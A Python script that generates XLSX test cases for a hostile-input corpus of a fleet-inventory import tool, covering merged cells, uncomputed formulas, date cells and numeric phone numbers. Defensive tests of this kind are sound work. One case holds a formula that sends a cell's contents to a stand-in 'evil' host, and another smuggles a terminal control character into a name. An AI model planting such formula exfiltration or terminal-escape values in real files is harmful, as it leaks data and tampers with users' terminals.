"""Regenerate the XLSX cases of the hostile-input corpus (``spreadsheet/xlsx-*.yaml``).

An XLSX workbook is binary, so each case carries it as base64 in ``files_b64``; this
script builds every workbook with openpyxl, as staff's spreadsheets really are
(merged cells, formulas saved without a value, time cells, numeric phones, a title
row), and writes the case files.  Run it from anywhere::

    python tests/hostile/make_xlsx.py
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

HERE = Path(__file__).resolve().parent / "spreadsheet"
HEADER = ["id", "name", "tier", "parent", "address", "vendor", "contact_phone"]
HUB = ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", "0237 3852 000"]
IMPORT = ["inventory", "import", "rooms.xlsx", "-o", "fleet.yaml"]
WROTE = "fleet.yaml: wrote {n} endpoints from rooms.xlsx"


@dataclass
class Case:
    """One corpus case: why, the sheet's rows, a change to the sheet, and what to expect."""

    why: str
    rows: list[list[Any]]
    stderr: str
    exit: int = 2
    touch: Callable[[Worksheet], None] = lambda ws: None
    formulas: bool = False
    """Keep cells starting with ``=`` as formulas (else they are written as text)."""
    may_change: list[str] = field(default_factory=list)


def _merge(ws: Worksheet) -> None:
    ws.merge_cells("C3:C4")
    ws.merge_cells("F3:F4")


def _zero_padded(ws: Worksheet) -> None:
    ws["G3"].number_format = "0000000000"


def _title(ws: Worksheet) -> None:
    ws.merge_cells("A1:G1")


CASES = {
    "xlsx-formula-without-saved-value": Case(
        "a formula cell that was never calculated (saved by a script, not by Excel) was "
        "reported as 'missing value' (finding 10)",
        [HEADER, HUB, ["a", '=CONCAT("Xã ", "A")', "commune", "hub", "10.0.0.2", "poly", None]],
        "rooms.xlsx:3:2: B3: formula without a saved value: open and save the file in "
        "Excel, or type the value", formulas=True),
    "xlsx-time-cell-in-name": Case(
        "a time cell in the name column silently became name: 08:00:00 (finding 10)",
        [HEADER, ["hub", dt.time(8, 0), "province", None, "10.0.0.1", "cisco_ce", None]],
        "rooms.xlsx:2:2: column 'name': the cell is a date or time (08:00:00), not text: "
        "format the cell as Text and type the value again"),
    "xlsx-date-cell-in-phone": Case(
        "a date cell in a text column (beyond the issue's list)",
        [HEADER, [*HUB[:6], dt.datetime(2026, 12, 1)]],
        "rooms.xlsx:2:7: column 'contact_phone': the cell is a date or time (2026-12-01), "
        "not text: format the cell as Text and type the value again"),
    "xlsx-numeric-phone": Case(
        "a phone typed as a number silently lost its leading 0 (finding 10)",
        [HEADER, HUB, ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", 912345678]],
        "rooms.xlsx:3:7: column 'contact_phone': the phone number is stored as a number "
        "(912345678), which loses a leading 0: format the cell as Text (or as 0000000000) "
        "and type it again"),
    "xlsx-numeric-phone-zero-format": Case(
        "a numeric phone formatted 0000000000 is read as Excel shows it, leading 0 kept",
        [HEADER, HUB, ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", 912345678]],
        WROTE.format(n=2), exit=0, touch=_zero_padded, may_change=["fleet.yaml"]),
    "xlsx-merged-cells": Case(
        "merged tier and vendor cells were 'missing value' below the first row (finding 10)",
        [HEADER, HUB, ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", None],
         ["b", "Xã B", None, "hub", "10.0.0.3", None, None]],
        WROTE.format(n=3), exit=0, touch=_merge, may_change=["fleet.yaml"]),
    "xlsx-title-row": Case(
        "a merged title row above the header was refused (finding 10); rows keep their "
        "sheet numbers",
        [["Danh sách điểm cầu — tỉnh Thanh Hóa"], HEADER, HUB,
         ["a", "Xã A", "ward", "hub", "10.0.0.2", "poly", None]],
        "rooms.xlsx:4:3: endpoint 'a': tier 'ward' is not one of the tiers (province, "
        "department, district, commune); pass --base with a 'tiers' list", touch=_title),
    "xlsx-formula-text-is-not-run": Case(
        "a text cell that looks like a formula is imported as text (finding 3)",
        [HEADER, ["hub", '=HYPERLINK("http://evil/?"&A1)', "province", None, "10.0.0.1",
                  "cisco_ce", "=1+2"]],
        WROTE.format(n=1), exit=0, may_change=["fleet.yaml"]),
    "xlsx-name-c1-control": Case(
        "a C1 control (CSI, U+009B) in a name cell is refused with its cell",
        [HEADER, ["hub", "Evil\x9b2J", "province", None, "10.0.0.1", "cisco_ce", None]],
        "rooms.xlsx:2:2: endpoint 'hub': name: control or bidi character U+009B at "
        "position 5: remove it (it would act on the terminal that shows this text)"),
}


def workbook(case: Case) -> bytes:
    """The case's workbook as XLSX bytes."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "endpoints"
    for row in case.rows:
        ws.append(row)
    for cells in ws.iter_rows():
        for cell in cells:
            if cell.data_type == "f" and not case.formulas:
                cell.data_type = "s"  # text that looks like a formula, as Excel saves it
    case.touch(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def case_text(case: Case) -> str:
    """The case file: a YAML document with the workbook as base64."""
    data = base64.b64encode(workbook(case)).decode("ascii")
    lines = [f"# {case.why}", "# generated by tests/hostile/make_xlsx.py: edit that, not this",
             f"argv: {json.dumps(IMPORT)}", "files_b64:", f"  rooms.xlsx: \"{data}\"",
             f"exit: {case.exit}", f"stderr: {json.dumps(case.stderr, ensure_ascii=False)}"]
    if case.may_change:
        lines.append(f"may_change: {json.dumps(case.may_change)}")
    return "\n".join(lines) + "\n"


def main() -> None:
    """Write every XLSX case file."""
    HERE.mkdir(exist_ok=True)
    for name, case in CASES.items():
        (HERE / f"{name}.yaml").write_text(case_text(case), encoding="utf-8")
        print(HERE / f"{name}.yaml")


if __name__ == "__main__":
    main()
